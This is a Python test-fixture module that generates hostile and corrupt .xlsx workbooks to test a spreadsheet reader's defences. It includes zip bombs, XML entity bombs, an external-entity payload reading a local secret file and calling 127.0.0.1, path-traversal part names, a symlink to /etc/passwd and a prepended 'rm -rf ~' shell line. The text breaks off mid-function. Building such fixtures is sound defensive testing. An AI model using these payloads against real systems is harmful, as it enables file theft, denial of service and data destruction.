"""Hostile and broken workbooks, each made by code: what people mail, disks damage, and attackers send.

Most are the real workbook with one thing wrong, so that a run that gets past it has real work to do.
"""

from __future__ import annotations

import os
import re
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from _lingkungan import AKAR

NYATA = AKAR / "workbook" / "dinsos-pontianak-2020.xlsx"
TERBACA, DITOLAK = "terbaca", "ditolak"
APA_SAJA = "apa saja"  # read or refused: both are right
RAHASIA = "rahasia-di-luar-buku"  # what a file beside the workbook holds, and no output may

ANGGARAN = "xl/worksheets/sheet4.xml"
BUKU, GAYA, TEKS = "xl/workbook.xml", "xl/styles.xml", "xl/sharedStrings.xml"
DIURAI = ("[Content_Types].xml", "_rels/.rels", "xl/_rels/workbook.xml.rels", BUKU, ANGGARAN, GAYA, TEKS,
          "docProps/core.xml")  # fmt: skip

Bagian = dict[str, bytes]
Pembuat = Callable[[Path], Path | None]


@dataclass(frozen=True)
class Musuh:
    """A hostile workbook: `buat` writes it into a folder, None where this system cannot hold it.

    `harapan` is what is to become of it, `kata` stands in the sentence of its refusal.
    """

    nama: str
    buat: Pembuat
    harapan: str = DITOLAK
    kata: str = ""


DAFTAR: list[Musuh] = []


def musuh(nama: str, harapan: str = DITOLAK, kata: str = "") -> Callable[[Pembuat], Pembuat]:
    def daftar(buat: Pembuat) -> Pembuat:
        DAFTAR.append(Musuh(nama, buat, harapan, kata))
        return buat

    return daftar


@cache
def _nyata() -> tuple[tuple[str, bytes], ...]:
    with zipfile.ZipFile(NYATA) as arsip:
        return tuple((nama, arsip.read(nama)) for nama in arsip.namelist())


def bagian_nyata() -> Bagian:
    """The parts of the real workbook."""
    return dict(_nyata())


def tulis_zip(
    path: Path, bagian: Bagian | Iterable[tuple[str | zipfile.ZipInfo, bytes]], cara: int = 8
) -> Path:
    with zipfile.ZipFile(path, "w", cara) as arsip:
        for nama, isi in bagian.items() if isinstance(bagian, dict) else bagian:
            arsip.writestr(nama, isi)
    return path


def ganti(folder: Path, baru: Bagian) -> Path:
    """The real workbook with those parts exchanged or added.

    Stored, not deflated: a bomb that deflates a thousand times is known by that alone.
    """
    return tulis_zip(folder / "buku.xlsx", {**bagian_nyata(), **baru}, zipfile.ZIP_STORED)


def sunting(folder: Path, nama: str, ubah: Callable[[bytes], bytes]) -> Path:
    return ganti(folder, {nama: ubah(bagian_nyata()[nama])})


def tambah_baris(folder: Path, baris: bytes, lain: Bagian | None = None) -> Path:
    """The real workbook with rows more in its sheet Anggaran."""
    lembar = bagian_nyata()[ANGGARAN].replace(b"</sheetData>", baris + b"</sheetData>")
    return ganti(folder, {ANGGARAN: lembar, **(lain or {})})


def _sebelum(penanda: bytes, isi: bytes) -> Callable[[bytes], bytes]:
    return lambda data: data.replace(penanda, isi + penanda, 1)


def _alirkan(path: Path, nama: str, potongan: bytes, kali: int, lain: Bagian) -> Path:
    """A part written piece by piece, since it would not fit in memory."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as arsip:
        for satu, isi in lain.items():
            if satu != nama:
                arsip.writestr(satu, isi)
        with arsip.open(nama, "w", force_zip64=True) as keluar:
            for _ in range(kali):
                keluar.write(potongan)
    return path


# What is no workbook at all ---------------------------------------------------------------------


def _polos(nama: str, isi: bytes, kata: str) -> None:
    def buat(folder: Path) -> Path:
        path = folder / "buku.xlsx"
        path.write_bytes(isi)
        return path

    DAFTAR.append(Musuh(nama, buat, DITOLAK, kata))


_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
_polos("0 bita", b"", "kosong")
_polos(".xls lama", _OLE + "Workbook".encode("utf-16-le") + bytes(2000), ".xls lama")
_polos("terenkripsi (OLE)", _OLE + "EncryptedPackage".encode("utf-16-le") + bytes(2000), "hapus kata sandi")
_polos("HTML bernama .xlsx", b"<html><body><table><tr><td>1</td></tr></table></body></html>", "HTML")
_polos("CSV bernama .xlsx", b"Kode;Uraian;Anggaran\r\n1;Program;1000\r\n", "CSV")
_polos("XML 2003 bernama .xlsx", b'<?xml version="1.0"?><Workbook xmlns="urn:schemas"/>', "XML")
_polos("PDF bernama .xlsx", b"%PDF-1.7\n%\xe2\xe3\n" + bytes(range(256)) * 9, "bukan buku kerja")
_polos("acak", bytes((i * 7919 + (i >> 3)) % 251 for i in range(50_000)), "bukan buku kerja")
_polos("hanya kepala zip", b"PK\x03\x04", "rusak")
_polos("zip kosong", b"PK\x05\x06" + bytes(18), "rusak")


@musuh(".xlsb", kata=".xlsb")
def _xlsb(folder: Path) -> Path:
    rels = bagian_nyata()["_rels/.rels"].replace(b"workbook.xml", b"workbook.bin")
    return tulis_zip(folder / "buku.xlsx", {"_rels/.rels": rels, "xl/workbook.bin": bytes(900)})


@musuh(".ods", kata=".ods")
def _ods(folder: Path) -> Path:
    jenis = b"application/vnd.oasis.opendocument.spreadsheet"
    return tulis_zip(folder / "buku.xlsx", {"mimetype": jenis, "content.xml": b"<office/>"})


@musuh(".docx bernama .xlsx", kata="bukan buku kerja")
def _docx(folder: Path) -> Path:
    rels = bagian_nyata()["_rels/.rels"].replace(b"xl/workbook.xml", b"word/document.xml")
    return tulis_zip(folder / "buku.xlsx", {"_rels/.rels": rels, "word/document.xml": b"<document/>"})


@musuh("folder", kata="folder")
def _folder(folder: Path) -> Path:
    (folder / "buku.xlsx").mkdir()
    return folder / "buku.xlsx"


@musuh("pipa", kata="bukan berkas biasa")
def _pipa(folder: Path) -> Path | None:
    if not hasattr(os, "mkfifo"):
        return None
    os.mkfifo(folder / "buku.xlsx")
    return folder / "buku.xlsx"


def _tautan(nama: str, tujuan: str, kata: str) -> None:
    def buat(folder: Path) -> Path | None:
        if os.name != "posix":
            return None
        (folder / "buku.xlsx").symlink_to(tujuan)
        return folder / "buku.xlsx"

    DAFTAR.append(Musuh(nama, buat, DITOLAK, kata))


_tautan("tautan ke /dev/zero", "/dev/zero", "bukan berkas biasa")
_tautan("tautan ke /dev/stdin", "/dev/stdin", "")
_tautan("tautan menggantung", "tiada.xlsx", "tidak ada")
_tautan("tautan melingkar", "buku.xlsx", "tidak")
_tautan("tautan ke /proc/self/mem", "/proc/self/mem", "")


@musuh("tidak boleh dibaca", kata="izin")
def _tertutup(folder: Path) -> Path | None:
    if os.name != "posix" or os.geteuid() == 0:
        return None
    path = ganti(folder, {})
    path.chmod(0)
    return path


@musuh("10 GiB kosong", kata="lebih besar")
def _renggang(folder: Path) -> Path:
    path = folder / "buku.xlsx"
    with path.open("wb") as berkas:
        berkas.write(b"PK\x03\x04")
        berkas.truncate(10 * 2**30)
    return path


@musuh("120 MiB nol berkepala zip", kata="rusak")
def _besar(folder: Path) -> Path:
    path = folder / "buku.xlsx"
    with path.open("wb") as berkas:
        berkas.write(b"PK\x03\x04")
        berkas.truncate(120 * 2**20)
    return path


# The zip ----------------------------------------------------------------------------------------


@musuh("bom zip: gambar 2 GiB", kata="mengembang")
def _bom_nisbah(folder: Path) -> Path:
    return _alirkan(folder / "buku.xlsx", "xl/media/bom.png", bytes(2**20), 2048, bagian_nyata())


@musuh("bom zip: lembar 1 GiB spasi", kata="mengembang")
def _bom_lembar(folder: Path) -> Path:
    return _alirkan(folder / "buku.xlsx", ANGGARAN, b" " * 2**20, 1024, bagian_nyata())


def _dusta(folder: Path, nama: str, lain: Bagian | None = None) -> Path:
    """A part of 400 MiB whose size in both headers is a small one."""
    path = _alirkan(folder / "buku.xlsx", nama, b" " * 2**20, 400, {**bagian_nyata(), **(lain or {})})
    isi = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as arsip:
        letak = arsip.getinfo(nama).header_offset
    pusat = isi.rindex(b"PK\x01\x02", 0, isi.rindex(nama.encode()))
    ekstra = letak + 30 + len(nama)
    struct.pack_into("<I", isi, pusat + 24, 900)
    if isi[ekstra : ekstra + 2] == b"\x01\x00":
        struct.pack_into("<Q", isi, ekstra + 4, 900)
    path.write_bytes(isi)
    return path


@musuh("bom zip: ukuran berdusta", kata="tidak utuh")
def _bom_dusta(folder: Path) -> Path:
    return _dusta(folder, ANGGARAN)


@musuh("bom zip: gaya berdusta di luar hubungan", APA_SAJA)
def _bom_gaya(folder: Path) -> Path:
    semua = bagian_nyata()
    rels = "xl/_rels/workbook.xml.rels"
    lain = {rels: semua[rels].replace(b"styles.xml", b"gaya.xml"), "xl/gaya.xml": semua[GAYA]}
    return _dusta(folder, GAYA, lain)


@musuh("bom zip: 60.000 bagian", kata="bagian")
def _bom_entri(folder: Path) -> Path:
    return ganti(folder, {f"xl/x{n}": b"" for n in range(60_000)})


@musuh("bom zip: satu juta bagian", kata="bagian")
def _bom_juta(folder: Path) -> Path:
    """Only the directory: 48 bytes a part, all of them of the same place."""
    path = folder / "buku.xlsx"
    kepala = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 33, 0, 0, 0, 4, 0) + b"0000"
    jumlah = 1_000_000
    satu = struct.Struct("<4s6H3I5H2I")
    with path.open("wb") as berkas:
        berkas.write(kepala)
        for n in range(jumlah):
            berkas.write(satu.pack(b"PK\x01\x02", 20, 20, 0, 0, 0, 33, 0, 0, 0, 4, 0, 0, 0, 0, 0, 0))
            berkas.write(n.to_bytes(4, "little"))
        panjang = jumlah * (satu.size + 4)
        awal64 = len(kepala) + panjang
        berkas.write(
            struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, jumlah, jumlah, panjang, len(kepala))
        )
        berkas.write(struct.pack("<4sIQI", b"PK\x06\x07", 0, awal64, 1))
        berkas.write(struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 65535, 65535, 2**32 - 1, 2**32 - 1, 0))
    return path


@musuh("bom zip: bersarang", TERBACA)
def _bom_sarang(folder: Path) -> Path:
    inti = zlib.compressobj(9, zlib.DEFLATED, -15)
    isi = b"".join(inti.compress(bytes(2**20)) for _ in range(64)) + inti.flush()
    for _ in range(3):
        tulis_zip(folder / "dalam.zip", [(f"{n}.zip", isi) for n in range(16)])
        isi = (folder / "dalam.zip").read_bytes()
    (folder / "dalam.zip").unlink()
    return ganti(folder, {"xl/embeddings/sarang.zip": isi})


@musuh("bom zip: bagian bertumpang tindih", kata="rusak")
def _tumpang(folder: Path) -> Path:
    """Two thousand names for one and the same compressed data."""
    path = ganti(folder, {"xl/media/inti.bin": bytes(2**20)})
    isi = path.read_bytes()
    akhir = isi.rindex(b"PK\x05\x06")
    jumlah, panjang, awal = struct.unpack_from("<HII", isi, akhir + 10)
    catatan = isi.rindex(b"PK\x01\x02", 0, isi.rindex(b"xl/media/inti.bin"))
    satu = isi[catatan:akhir]
    tiru = b"".join(satu.replace(b"inti", b"%04d" % n) for n in range(2000))
    ekor = struct.pack(
        "<4s4H2IH", b"PK\x05\x06", 0, 0, jumlah + 2000, jumlah + 2000, panjang + len(tiru), awal, 0
    )
    path.write_bytes(isi[:akhir] + tiru + ekor)
    return path


def _terpotong(bagian_ke: int) -> None:
    def buat(folder: Path) -> Path:
        isi = NYATA.read_bytes()
        path = folder / "buku.xlsx"
        path.write_bytes(isi[: len(isi) * bagian_ke // 10])
        return path

    DAFTAR.append(Musuh(f"terpotong pada {bagian_ke * 10} %", buat, DITOLAK, "rusak"))


for _n in range(1, 10):
    _terpotong(_n)


@musuh("terpotong satu bita", kata="rusak")
def _terpotong_satu(folder: Path) -> Path:
    path = folder / "buku.xlsx"
    path.write_bytes(NYATA.read_bytes()[:-1])
    return path


@musuh("CRC salah", kata="tidak utuh")
def _crc(folder: Path) -> Path:
    path = ganti(folder, {})
    isi = bytearray(path.read_bytes())
    isi[isi.rindex(b"PK\x01\x02", 0, isi.rindex(ANGGARAN.encode())) + 16] ^= 255
    path.write_bytes(isi)
    return path


@musuh("tersandi (zip)", kata="kata sandi")
def _zip_tersandi(folder: Path) -> Path:
    path = ganti(folder, {})
    isi = bytearray(path.read_bytes())
    isi[isi.rindex(b"PK\x01\x02", 0, isi.rindex(ANGGARAN.encode())) + 8] |= 1
    path.write_bytes(isi)
    return path


@musuh("cara pemampatan lain (LZMA)", kata="pemampatan")
def _lzma(folder: Path) -> Path:
    return tulis_zip(folder / "buku.xlsx", bagian_nyata(), zipfile.ZIP_LZMA)


@musuh("dua bagian bernama sama", kata="bernama sama")
def _kembar(folder: Path) -> Path:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return tulis_zip(folder / "buku.xlsx", [*bagian_nyata().items(), (ANGGARAN, b"<worksheet/>")])


@musuh("dua bagian bernama sama kecuali huruf besar", kata="bernama sama")
def _kembar_huruf(folder: Path) -> Path:
    return ganti(folder, {ANGGARAN.upper(): b"<worksheet/>"})


@musuh("nama bagian keluar folder", TERBACA)
def _nama_jalur(folder: Path) -> Path:
    daftar = ("../../../../tmp/lepas", "/tmp/lepas", "C:\\Windows\\lepas", "\\\\server\\bagi\\lepas", "..\\..\\lepas",
              "~/.lepas", "xl/\x1b[31mmerah", "xl/baris\nbaru", "n" * 60_000, "CON", ".", "xl//ganda",
              "%2e%2e/lepas")  # fmt: skip
    return ganti(folder, {nama: b"isi" for nama in daftar})


@musuh("nama bagian memuat NUL", APA_SAJA)
def _nama_nol(folder: Path) -> Path:
    path = ganti(folder, {"xl/aXb.bin": b"isi"})
    path.write_bytes(path.read_bytes().replace(b"xl/aXb.bin", b"xl/a\0b.bin"))
    return path


@musuh("tautan simbolik di dalam zip", TERBACA)
def _zip_tautan(folder: Path) -> Path:
    info = zipfile.ZipInfo("xl/media/tautan.png")
    info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return tulis_zip(folder / "buku.xlsx", [*bagian_nyata().items(), (info, b"/etc/passwd")])


@musuh("Zip64 dan komentar", TERBACA)
def _zip64(folder: Path) -> Path:
    path = folder / "buku.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as arsip:
        for nama, isi in bagian_nyata().items():
            with arsip.open(nama, "w", force_zip64=True) as keluar:
                keluar.write(isi)
        arsip.comment = b"k" * 65_535
    return path


@musuh("data descriptor", TERBACA)
def _deskriptor(folder: Path) -> Path:
    class Aliran:  # a file that cannot seek back to write sizes
        def __init__(self, path: Path) -> None:
            self.berkas = path.open("wb")

        def write(self, isi: bytes) -> int:
            return self.berkas.write(isi)

        def flush(self) -> None:
            self.berkas.flush()

    path = folder / "buku.xlsx"
    aliran = Aliran(path)
    with zipfile.ZipFile(aliran, "w", zipfile.ZIP_DEFLATED) as arsip:  # type: ignore[call-overload]
        for nama, isi in bagian_nyata().items():
            arsip.writestr(nama, isi)
    aliran.berkas.close()
    return path


@musuh("sampah di depan", kata="")
def _depan(folder: Path) -> Path:
    path = ganti(folder, {})
    path.write_bytes(b"#!/bin/sh\nexec rm -rf ~\n" + path.read_bytes())
    return path


@musuh("sampah di belakang", APA_SAJA)
def _belakang(folder: Path) -> Path:
    path = ganti(folder, {})
    path.write_bytes(path.read_bytes() + bytes(range(256)) * 40)
    return path


@musuh("dua zip bersambung", APA_SAJA)
def _bersambung(folder: Path) -> Path:
    path = ganti(folder, {})
    path.write_bytes(tulis_zip(folder / "a.zip", {"catatan.txt": b"lain"}).read_bytes() + path.read_bytes())
    (folder / "a.zip").unlink()
    return path


# XML --------------------------------------------------------------------------------------------

_TAWA = b'<!DOCTYPE a [<!ENTITY a0 "tawa">' + b"".join(
    b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10)
) + b"]>"  # fmt: skip
_LUAR = (
    b'<!DOCTYPE a [<!ENTITY a9 SYSTEM "rahasia.txt"><!ENTITY %% p SYSTEM "http://127.0.0.1:9/p">%s]>' % b""
)
_KEPALA_XML = re.compile(rb"<\?xml[^>]*\?>\s*")
_AKAR_XML = re.compile(rb"(<(?!\?)[^>]*[^/])(/?>)")


def _xml_musuh(nama: str, ubah: Callable[[bytes], bytes], bagian: str, harapan: str, kata: str = "") -> None:
    def buat(folder: Path) -> Path:
        (folder / "rahasia.txt").write_text(RAHASIA, encoding="utf-8")
        return sunting(folder, bagian, ubah)

    DAFTAR.append(Musuh(f"{nama}: {bagian}", buat, harapan, kata))


def _berdtd(dtd: bytes) -> Callable[[bytes], bytes]:
    def ubah(data: bytes) -> bytes:
        data = _KEPALA_XML.sub(b"", data, count=1)
        return b'<?xml version="1.0"?>' + dtd + _AKAR_XML.sub(rb"\1\2&a9;", data, count=1)

    return ubah


def _sangat_dalam(data: bytes) -> bytes:
    return _AKAR_XML.sub(lambda c: c[1] + c[2] + b"<a>" * 200_000 + b"</a>" * 200_000, data, count=1)


def _sejuta_anak(data: bytes) -> bytes:
    return _AKAR_XML.sub(lambda c: c[1] + c[2] + b'<a b="c"/>' * 1_000_000, data, count=1)


for _bagian in DIURAI:
    _dibuka = not _bagian.startswith("docProps")
    _wajib = DITOLAK if _dibuka else TERBACA
    _xml_musuh("bom entitas XML", _berdtd(_TAWA), _bagian, _wajib, "DTD")
    _xml_musuh("entitas luar", _berdtd(_LUAR), _bagian, _wajib, "DTD")
    _xml_musuh(
        "XML UTF-16",
        lambda d: d.decode().replace("UTF-8", "UTF-16").encode("utf-16"),
        _bagian,
        _wajib,
        "UTF-8",
    )
    _xml_musuh("XML bukan UTF-8", lambda d: d.replace(b"<", b"\xff\xfe<", 3)[2:], _bagian, APA_SAJA)
    _xml_musuh("XML terpotong", lambda d: d[: len(d) * 2 // 3], _bagian, APA_SAJA)
    _xml_musuh("XML 200.000 tingkat", _sangat_dalam, _bagian, APA_SAJA)
    _xml_musuh("XML sejuta anak", _sejuta_anak, _bagian, APA_SAJA)
    _xml_musuh("XML kosong", lambda d: b"", _bagian, _wajib)


# Sheets -----------------------------------------------------------------------------------------


def _baris(nomor: int, sel: bytes) -> bytes:
    return b'<row r="%d">%s</row>' % (nomor, sel)


def _lembar_musuh(nama: str, baris: bytes, harapan: str, kata: str = "") -> None:
    DAFTAR.append(Musuh(nama, lambda folder: tambah_baris(folder, baris), harapan, kata))


_AKHIR = 2**20
_lembar_musuh("sel XFD1048576", _baris(_AKHIR, b'<c r="XFD1048576"><v>1</v></c>'), DITOLAK, "terlalu jauh")
_lembar_musuh("sel xfd1048576", _baris(_AKHIR, b'<c r="xfd1048576"><v>1</v></c>'), DITOLAK)
_lembar_musuh("sel jauh, atribut aneh", _baris(_AKHIR, b'<c r="XFD1048576" x="a/b>"><v>1</v></c>'), DITOLAK)
_lembar_musuh(
    "sel jauh, awalan lain", _baris(_AKHIR, b'<x:c xmlns:x="y" r="XFD1048576"><v>1</v></x:c>'), DITOLAK
)
_lembar_musuh("sel di luar lembar", _baris(9_999_999, b'<c r="ZZZZ9999999"><v>1</v></c>'), DITOLAK)
_lembar_musuh("alamat sel rusak", _baris(900, b'<c r="\xe2\x98\x83"><v>1</v></c>'), DITOLAK)
_lembar_musuh("baris nol", _baris(0, b'<c r="A0"><v>1</v></c>'), DITOLAK)
_lembar_musuh("sel berulang", _baris(900, b'<c r="A900"><v>1</v></c>' * 100_000), APA_SAJA)
_lembar_musuh("gaya sel di luar daftar", _baris(900, b'<c r="A900" s="999999999"><v>1</v></c>'), APA_SAJA)
_lembar_musuh("gaya sel negatif", _baris(900, b'<c r="A900" s="-1"><v>1</v></c>'), APA_SAJA)
_lembar_musuh(
    "teks bersama ke-4.294.967.295", _baris(900, b'<c r="A900" t="s"><v>4294967295</v></c>'), DITOLAK
)
_lembar_musuh("teks bersama ke-(-1)", _baris(900, b'<c r="A900" t="s"><v>-1</v></c>'), APA_SAJA)
_lembar_musuh("jenis sel tak dikenal", _baris(900, b'<c r="A900" t="zz"><v>1</v></c>'), APA_SAJA)
_lembar_musuh("kode galat tak dikenal", _baris(900, b'<c r="A900" t="e"><v>#ANEH!</v></c>'), APA_SAJA)
_lembar_musuh(
    "rumus sepanjang 20 MiB", _baris(900, b'<c r="A900"><f>' + b"1+" * 10_000_000 + b"1</f></c>"), APA_SAJA
)
_lembar_musuh(
    "teks sebaris 40 MiB", _baris(900, b'<c r="A900" t="inlineStr"><is><t>' + b"x" * 40_000_000 + b"</t></is></c>"),
    APA_SAJA,
)  # fmt: skip
_lembar_musuh(
    "satu juta potong teks",
    _baris(900, b'<c r="A900" t="inlineStr"><is>' + b"<r><t>x</t></r>" * 1_000_000 + b"</is></c>"),
    APA_SAJA,
)  # fmt: skip


def _angka_musuh(angka: str) -> None:
    def buat(folder: Path) -> Path:
        """Every amount of the sheet Anggaran is that number."""
        pola = re.compile(rb'(<c r="[E-H][0-9]+"[^>]*><v>)[^<]*(</v>)')
        return sunting(folder, ANGGARAN, lambda d: pola.sub(lambda c: c[1] + angka.encode() + c[2], d))

    DAFTAR.append(Musuh(f"angka {angka[:9]}", buat, APA_SAJA))


for _angka in ("1e999", "-1e999", "nan", "inf", "1e308", "-1e308", "1e-400", "5e-324", "9" * 5000, "1" + "0" * 400,
               "0x10",
               "１２", "1_0", "--1", "-0", "1e15", "1e30", "1e120"):  # fmt: skip
    _angka_musuh(_angka)


@musuh("teks angka tak masuk akal", APA_SAJA)
def _teks_angka(folder: Path) -> Path:
    daftar = ("9" * 30_000, "0," + "9" * 30_000, "1e999", "Rp " + "1." * 10_000, "(" * 10_000, "1.000" * 5000, "٣٤٥",
              "½", "-" * 30_000,
              "9" * 120, "0," + "0" * 200 + "1", "99%%", "1/0", "∞", "NaN", "9" * 4300 + " orang")  # fmt: skip
    urutan = iter(range(10**6))

    def ubah(cocok: re.Match[bytes]) -> bytes:
        teks = daftar[next(urutan) % len(daftar)]
        return b'<c r="%s" t="inlineStr"><is><t>%s</t></is></c>' % (cocok[1], teks.encode())

    return sunting(
        folder, ANGGARAN, lambda d: re.sub(rb'<c r="([E-H][0-9]+)"[^>]*><v>[0-9.]*</v></c>', ubah, d)
    )


@musuh("dimensi satu juta baris", TERBACA)
def _dimensi(folder: Path) -> Path:
    return sunting(
        folder, ANGGARAN, lambda d: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', d)
    )


@musuh("dimensi tak masuk akal", APA_SAJA)
def _dimensi_aneh(folder: Path) -> Path:
    return sunting(
        folder, ANGGARAN, lambda d: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="ZZZ9:A0:#REF!"', d)
    )


@musuh("satu juta baris berisi", APA_SAJA)
def _sejuta_baris(folder: Path) -> Path:
    baris = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n) for n in range(900, 1_000_900))
    return tambah_baris(folder, baris)


def _anggaran(jumlah: int, kode: str, nama: str) -> bytes:
    return b"".join(
        _baris(n, b"".join(
            b'<c r="%s%d" t="inlineStr"><is><t>%s</t></is></c>' % (k, n, (teks.replace("#", str(n))).encode())
            for k, teks in ((b"A", kode), (b"C", "kegiatan"), (b"D", nama)))
            + b'<c r="E%d"><v>%d</v></c><c r="F%d"><v>%d</v></c>' % (n, n * 997, n, n * 991))
        for n in range(900, 900 + jumlah)
    )  # fmt: skip


@musuh("19.000 kegiatan berbeda", TERBACA)
def _kegiatan_berbeda(folder: Path) -> Path:
    return tambah_baris(folder, _anggaran(19_000, "1.#", "Kegiatan pelayanan administrasi nomor #"))


@musuh("19.000 kegiatan yang sama", TERBACA)
def _kegiatan_sama(folder: Path) -> Path:
    return tambah_baris(folder, _anggaran(19_000, "1.01.01", "Kegiatan pelayanan administrasi"))


@musuh("300.000 kegiatan", kata="baris")
def _kegiatan_banyak(folder: Path) -> Path:
    return tambah_baris(folder, _anggaran(300_000, "1.#", "Kegiatan #"))


@musuh("sel terisi di baris 1.048.576", TERBACA)
def _sel_dasar(folder: Path) -> Path:
    return tambah_baris(folder, _baris(_AKHIR, b'<c r="A%d" t="inlineStr"><is><t>.</t></is></c>' % _AKHIR))


@musuh("delapan juta sel kosong", APA_SAJA)
def _sel_kosong(folder: Path) -> Path:
    return tambah_baris(folder, b'<row r="900">' + b"<c/>" * 8_000_000 + b"</row>")


@musuh("empat juta baris kosong", APA_SAJA)
def _baris_kosong(folder: Path) -> Path:
    return tambah_baris(folder, b"<row/>" * 4_000_000)


def _kolom(n: int) -> bytes:
    huruf = b""
    while n:
        n, sisa = divmod(n - 1, 26)
        huruf = bytes([65 + sisa]) + huruf
    return huruf


def _banyak_lembar(jumlah: int, isi: bytes, satu_bagian: bool) -> Bagian:
    semua = bagian_nyata()
    lembar, hubungan, baru = [], [], {}
    for n in range(jumlah):
        bagian = "worksheets/banyak0.xml" if satu_bagian else f"worksheets/banyak{n}.xml"
        baru[f"xl/{bagian}"] = isi
        lembar.append(f'<sheet name="Banyak{n}" sheetId="{n + 500}" r:id="banyak{n}"/>')
        jenis = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
        hubungan.append(f'<Relationship Id="banyak{n}" Type="{jenis}" Target="{bagian}"/>')
    rels = "xl/_rels/workbook.xml.rels"
    return {
        BUKU: _sebelum(b"</sheets>", "".join(lembar).encode())(semua[BUKU]),
        rels: _sebelum(b"</Relationships>", "".join(hubungan).encode())(semua[rels]),
        **baru,
    }


def _lembar_polos(sel: bytes) -> bytes:
    utama = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return b'<worksheet xmlns="%s"><sheetData>%s</sheetData></worksheet>' % (utama, sel)


@musuh("16.384 kolom penuh", TERBACA)
def _kolom_penuh(folder: Path) -> Path:
    daftar = [_kolom(k) for k in range(1, 16_385)]
    baris = (_baris(n, b"".join(b'<c r="%s%d"><v>1</v></c>' % (k, n) for k in daftar)) for n in range(1, 31))
    return ganti(folder, _banyak_lembar(1, _lembar_polos(b"".join(baris)), False))


@musuh("5.000 lembar", APA_SAJA)
def _ribuan_lembar(folder: Path) -> Path:
    return ganti(folder, _banyak_lembar(5000, _lembar_polos(_baris(1, b'<c r="A1"><v>1</v></c>')), False))


@musuh("9.000 lembar yang terhampar jauh", kata="")
def _lembar_luas(folder: Path) -> Path:
    isi = _lembar_polos(_baris(1, b'<c r="A1"><v>1</v></c>') + _baris(99_999, b'<c r="Z99999"><v>1</v></c>'))
    return ganti(folder, _banyak_lembar(9000, isi, False))


@musuh("5.000 lembar pada satu bagian besar", kata="")
def _lembar_bersama(folder: Path) -> Path:
    baris = b"".join(_baris(n, b'<c r="A%d"><v>1</v></c>' % n) for n in range(1, 20_000))
    return ganti(folder, _banyak_lembar(5000, _lembar_polos(baris), True))


# Shared strings, styles, names ------------------------------------------------------------------


def _jumlah_dusta(nama: str, bagian: str, tag: bytes, isi: bytes = b"") -> None:
    def buat(folder: Path) -> Path:
        def ubah(data: bytes) -> bytes:
            data = data.replace(b"</sheetData>", b"</sheetData>" + isi)
            return re.sub(rb"<%s\b" % tag, b'<%s count="4294967295" uniqueCount="4294967295"' % tag,
                          re.sub(rb'(<%s\b[^>]*?) (?:count|uniqueCount)="\d+"' % tag, rb"\1",
                                 re.sub(rb'(<%s\b[^>]*?) (?:count|uniqueCount)="\d+"' % tag, rb"\1", data)))  # fmt: skip

        return sunting(folder, bagian, ubah)

    DAFTAR.append(Musuh(f"jumlah berdusta: {nama}", buat, APA_SAJA))


_jumlah_dusta("teks bersama", TEKS, b"sst")
_jumlah_dusta("gaya sel", GAYA, b"cellXfs")
_jumlah_dusta("format angka", GAYA, b"numFmts")
_jumlah_dusta("lembar", BUKU, b"sheets")
_jumlah_dusta("nama terdefinisi", BUKU, b"definedNames")
_jumlah_dusta("sel gabungan", ANGGARAN, b"mergeCells", b'<mergeCells><mergeCell ref="AA1:AB2"/></mergeCells>')


@musuh("satu juta teks bersama", APA_SAJA)
def _teks_sejuta(folder: Path) -> Path:
    return sunting(folder, TEKS, _sebelum(b"</sst>", b"<si><t>isi</t></si>" * 1_000_000))


@musuh("satu teks bersama 100 MiB", APA_SAJA)
def _teks_raksasa(folder: Path) -> Path:
    return sunting(folder, TEKS, _sebelum(b"</sst>", b"<si><t>" + b"x y z " * 17_000_000 + b"</t></si>"))


@musuh("teks bersama 1 MiB dipakai 100.000 kali")
def _teks_ganda(folder: Path) -> Path:
    semua = bagian_nyata()
    nomor = semua[TEKS].count(b"<si>")
    sel = b"".join(
        b'<row r="%d"><c r="A%d" t="s"><v>%d</v></c></row>' % (n, n, nomor) for n in range(900, 100_900)
    )
    teks = _sebelum(b"</sst>", b"<si><t>" + b"x" * 2**20 + b"</t></si>")(semua[TEKS])
    return tambah_baris(folder, sel, {TEKS: teks})


@musuh("satu juta nama terdefinisi", APA_SAJA)
def _nama_terdefinisi(folder: Path) -> Path:
    nama = b"".join(b'<definedName name="n%d">Anggaran!$A$1</definedName>' % n for n in range(1_000_000))
    return sunting(
        folder,
        BUKU,
        lambda d: re.sub(rb"(</sheets>)", lambda c: c[1] + b"<definedNames>" + nama + b"</definedNames>", d),
    )


@musuh("satu juta gaya sel", APA_SAJA)
def _gaya_sejuta(folder: Path) -> Path:
    return sunting(folder, GAYA, _sebelum(b"</cellXfs>", b'<xf numFmtId="3"/>' * 1_000_000))


@musuh("format angka 1 MiB pada 60.000 gaya", APA_SAJA)
def _format_raksasa(folder: Path) -> Path:
    kode = b"0," * 2**19
    fmt = b'<numFmt numFmtId="900" formatCode="%s"/>' % kode

    def ubah(data: bytes) -> bytes:
        if b"</numFmts>" in data:
            data = _sebelum(b"</numFmts>", fmt)(data)
        else:
            data = data.replace(b"<fonts", b'<numFmts count="1">' + fmt + b"</numFmts><fonts", 1)
        return _sebelum(b"</cellXfs>", b'<xf numFmtId="900"/>' * 60_000)(data)

    return sunting(folder, GAYA, ubah)


def _sesudah_data(nama: str, isi: bytes, harapan: str = APA_SAJA) -> None:
    DAFTAR.append(
        Musuh(
            nama,
            lambda folder: sunting(
                folder, ANGGARAN, lambda d: d.replace(b"</sheetData>", b"</sheetData>" + isi)
